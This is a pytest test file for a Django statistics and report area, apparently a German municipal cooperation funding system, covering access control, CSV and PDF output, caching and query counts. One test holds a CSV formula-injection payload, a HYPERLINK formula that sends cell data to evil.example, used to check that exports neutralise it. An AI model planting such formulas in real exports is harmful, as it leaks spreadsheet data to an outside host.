from __future__ import annotations

import csv
import datetime as dt
import io
from dataclasses import replace

import pytest
from django.core.cache import cache
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from accounts.models import User
from cooperations.models import Cooperation
from reports import dashboard, views
from reports.models import Report
from tests import factories

from .conftest import Dataset

pytestmark = pytest.mark.django_db


def _urls(report: Report, case_pk: int) -> list[tuple[str, str]]:
    return [
        ("get", reverse("reports:dashboard")),
        ("get", reverse("reports:table-csv", args=["jahre"]) + "?jahr=2021"),
        ("post", reverse("reports:report-create")),
        ("get", reverse("reports:report-status", args=[report.pk])),
        ("get", reverse("reports:report-download", args=[report.pk])),
        ("get", reverse("reports:case-file", args=[case_pk])),
    ]


def _done_report() -> Report:
    return Report.objects.create(
        year=2021, cutoff=dt.date(2021, 12, 31), data_version="x", status=Report.Status.DONE
    )


def test_anonymous_and_municipal_users_get_404_for_the_whole_area(
    client: Client, anna: User, udo: User, dataset: Dataset
) -> None:
    report = _done_report()
    for user in (None, anna, udo):
        if user:
            client.force_login(user)
        for method, url in _urls(report, dataset.c1.pk):
            response = getattr(client, method)(url, {"jahr": 2021} if method == "post" else None)
            assert response.status_code == 404, (user, url)
    assert Report.objects.count() == 1  # the POSTs ordered nothing


@pytest.mark.parametrize("who", ["dieter", "clara", "hanna"])
def test_ministry_and_advisers_see_the_dashboard(
    client: Client, dataset: Dataset, who: str, request: pytest.FixtureRequest
) -> None:
    client.force_login(request.getfixturevalue(who))
    response = client.get(reverse("reports:dashboard"), {"jahr": 2021})
    assert response.status_code == 200
    html = response.content.decode()
    assert "Seit 2019 wurden 3 kommunale Kooperationen mit 6 Kommunen" in html
    assert "Bericht erstellen" in html
    assert "<svg" in html and 'role="img"' in html
    assert reverse("reports:table-csv", args=["handlungsfelder"]) + "?jahr=2021" in html


def test_the_ministry_never_sees_contact_persons(client: Client, dieter: User, dataset: Dataset) -> None:
    factories.PersonFactory(
        municipality=dataset.adorf, first_name="Greta", last_name="Geheimhaltung", email="greta@adorf.de"
    )
    client.force_login(dieter)
    html = client.get(reverse("reports:dashboard"), {"jahr": 2021}).content.decode()
    for private in ("Geheimhaltung", "greta@adorf.de", "Sportverein Beispiel", "@example.org"):
        assert private not in html


def test_a_year_not_offered_is_a_clear_message_not_an_error(
    client: Client, dieter: User, dataset: Dataset
) -> None:
    client.force_login(dieter)
    response = client.get(reverse("reports:dashboard"), {"jahr": "1999x"})
    assert response.status_code == 400
    assert views.YEAR_INVALID in response.content.decode()


def test_each_table_downloads_as_csv_with_exact_german_numbers(
    client: Client, clara: User, dataset: Dataset
) -> None:
    client.force_login(clara)
    response = client.get(reverse("reports:table-csv", args=["handlungsfelder"]), {"jahr": 2021})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    assert "Allgemeine Verwaltung;1;50000,00;1;150000,00" in text
    assert "Summe;2;65000,00;3;240000,00" in text
    assert client.get(reverse("reports:table-csv", args=["gibtsnicht"]), {"jahr": 2021}).status_code == 404


def test_a_name_that_looks_like_a_formula_is_inert_in_the_statistics_csv(
    client: Client, clara: User, dataset: Dataset
) -> None:
    from cooperations.models import FieldOfAction

    hostile = '=HYPERLINK("http://evil.example/?d="&A2;"Details")'
    FieldOfAction.objects.filter(name="Allgemeine Verwaltung").update(name=hostile)
    client.force_login(clara)
    response = client.get(reverse("reports:table-csv", args=["handlungsfelder"]), {"jahr": 2021})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert ["'" + hostile, "1", "50000,00", "1", "150000,00"] in rows
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_the_dashboard_query_count_does_not_grow_with_rows(
    client: Client, dieter: User, dataset: Dataset
) -> None:
    client.force_login(dieter)
    url = reverse("reports:dashboard") + "?jahr=2021"
    client.get(url)
    cache.clear()
    with CaptureQueriesContext(connection) as few:
        assert client.get(url).status_code == 200
    for n in range(4):
        case = factories.CooperationFactory(partners=[dataset.adorf])
        factories.GrantFactory(cooperation=case, budget_year=2021)
        Report.objects.create(
            year=2020, cutoff=dt.date(2020, 12, 31), data_version=str(n), status=Report.Status.DONE
        )
    cache.clear()
    with CaptureQueriesContext(connection) as many:
        assert client.get(url).status_code == 200
    # session, user, groups, data state, 2 × available years, 8 statistics (those of
    # annual_statistics: funding of the grants and of the cases with the reported
    # savings, payments, reclaimed funding, advice, size classes, asker kinds, programme
    # levels), latest report of the year, recently finished reports.
    assert len(few.captured_queries) == len(many.captured_queries) == 16
    # Unchanged data: the years (2), the statistics (8) and their rendered tables come
    # from the cache under the data state, and so does the session (cached_db).
    with CaptureQueriesContext(connection) as warm:
        assert client.get(url).status_code == 200
    assert len(warm.captured_queries) == 16 - 2 - 8 - 1


def test_the_cached_dashboard_shows_every_change_at_once_even_a_deletion(
    client: Client, dieter: User, dataset: Dataset
) -> None:
    """The figures and tables are rendered once per data state and cached; a grant
    added or deleted (a deletion leaves no newer updated_at behind) shows on the
    next view."""
    client.force_login(dieter)
    url = reverse("reports:dashboard") + "?jahr=2021"
    three = "Seit 2019 wurden 3 kommunale Kooperationen mit 6 Kommunen"
    assert three in client.get(url).content.decode()
    assert three in client.get(url).content.decode()  # from the cache
    unfunded = Cooperation.objects.get(lead_municipality=dataset.kassel)
    grant = factories.GrantFactory(cooperation=unfunded, budget_year=2021)
    html = client.get(url).content.decode()
    assert "Seit 2019 wurden 4 kommunale Kooperationen" in html
    grant.delete()
    assert three in client.get(url).content.decode()


def test_the_cached_figures_are_written_the_german_way_whatever_the_browser_asks_for(
    client: Client, dieter: User, dataset: Dataset, monkeypatch: pytest.MonkeyPatch
) -> None:
    real = dashboard.cached_annual_statistics

    def with_many_participations(year: int, state: str | None = None):  # type: ignore[no-untyped-def]
        stats, version = real(year, state)
        return replace(stats, participations_total=1174), version

    monkeypatch.setattr(dashboard, "cached_annual_statistics", with_many_participations)
    client.force_login(dieter)
    url = reverse("reports:dashboard") + "?jahr=2021"
    english = client.get(url, headers={"accept-language": "en"}).content.decode()
    german = client.get(url, headers={"accept-language": "de"}).content.decode()
    # the figure box: German numbers in every language, like the headline sentence
    assert "<span>1.174 Beteiligungen</span>" in english
    assert "<span>1.174 Beteiligungen</span>" in german


def test_ordering_renders_once_and_a_second_order_returns_the_same_report(
    client: Client, dieter: User, dataset: Dataset, django_capture_on_commit_callbacks
) -> None:
    client.force_login(dieter)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("reports:report-create"), {"jahr": 2021})
    assert response.status_code == 302
    report = Report.objects.get()
    assert (report.status, report.attempts, report.renders) == (Report.Status.DONE, 1, 1)
    with django_capture_on_commit_callbacks(execute=True):
        again = client.post(reverse("reports:report-create"), {"jahr": 2021}, follow=True)
    assert "gibt es schon einen Bericht" in again.content.decode()
    assert Report.objects.count() == 1
    report.refresh_from_db()
    assert report.renders == 1

    download = client.get(reverse("reports:report-download", args=[report.pk]))
    assert download.status_code == 200
    assert download["Content-Type"] == "application/pdf"
    assert "Jahresstatistik-IKZ-2021" in download["Content-Disposition"]
    assert b"".join(download.streaming_content).startswith(b"%PDF-")


def test_a_changed_data_state_orders_a_new_report(
    client: Client, clara: User, dataset: Dataset, django_capture_on_commit_callbacks
) -> None:
    client.force_login(clara)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("reports:report-create"), {"jahr": 2021})
    factories.GrantFactory(cooperation=dataset.c2, budget_year=2021)
    page = client.get(reverse("reports:dashboard"), {"jahr": 2021}).content.decode()
    assert "Die Daten haben sich seitdem geändert" in page
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("reports:report-create"), {"jahr": 2021})
    assert Report.objects.filter(status=Report.Status.DONE).count() == 2


def test_the_status_partial_polls_while_open_and_stops_when_done(client: Client, dieter: User) -> None:
    client.force_login(dieter)
    report = Report.objects.create(year=2021, cutoff=dt.date(2021, 12, 31), data_version="v")
    html = client.get(reverse("reports:report-status", args=[report.pk])).content.decode()
    assert "wird erstellt" in html and 'hx-trigger="every 3s"' in html
    Report.objects.filter(pk=report.pk).update(status=Report.Status.FAILED, error="Kaputt <b>")
    html = client.get(reverse("reports:report-status", args=[report.pk])).content.decode()
    assert "hx-trigger" not in html and "Kaputt &lt;b&gt;" in html


def test_the_case_file_is_for_advisers_only(
    client: Client, clara: User, dieter: User, anna: User, dataset: Dataset
) -> None:
    url = reverse("reports:case-file", args=[dataset.c1.pk])
    for user in (dieter, anna):
        client.force_login(user)
        assert client.get(url).status_code == 404
    client.force_login(clara)
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF-")
